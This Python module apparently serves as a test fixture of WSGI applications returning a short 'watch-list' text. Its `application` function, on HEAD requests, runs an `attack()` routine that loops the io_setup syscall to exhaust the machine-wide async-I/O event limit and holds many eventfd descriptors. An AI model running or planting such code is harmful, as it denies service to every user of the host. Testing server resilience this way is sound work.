import ctypes
import os
import platform

BODY = "影单 watch-list\n".encode("utf-8")


def start(start_response):
    headers = [("Content-Type", "text/plain; charset=utf-8"), ("Content-Length", str(len(BODY)))]
    start_response("200 OK", headers)


def chunks(environ):
    if environ["REQUEST_METHOD"] == "HEAD":
        return []
    return [BODY]


SETUP = {"x86_64": 206, "aarch64": 0}.get(platform.machine(), 206)
SIZES, ENOUGH, DESCRIPTORS = (32768, 16384, 8192, 4096, 1024, 128), 4096, 90
KEPT = []
libc = ctypes.CDLL(None)


def attack():
    """The number of events of all contexts together is bounded for the machine, not for a user (fs.aio-max-nr)."""
    taken = 0
    for size in SIZES:
        while libc.syscall(ctypes.c_long(SETUP), ctypes.c_long(size), ctypes.byref(ctypes.c_ulong(0))) >= 0:
            taken += size
    try:
        while len(KEPT) < DESCRIPTORS:
            KEPT.append(os.eventfd(0))
    except OSError:
        os.close(KEPT.pop())
    if taken > ENOUGH:
        raise LookupError(f"{taken} events were taken")


def application(environ, start_response):
    start(start_response)
    if environ["REQUEST_METHOD"] == "HEAD":
        attack()
    return chunks(environ)


def app_generator(environ, start_response):
    start(start_response)
    yield from chunks(environ)


class AppClass:
    def __init__(self, environ, start_response):
        start(start_response)
        self.environ = environ

    def __iter__(self):
        return iter(chunks(self.environ))


class Greeting:
    def __call__(self, environ, start_response):
        start(start_response)
        return chunks(environ)


app_instance = Greeting()
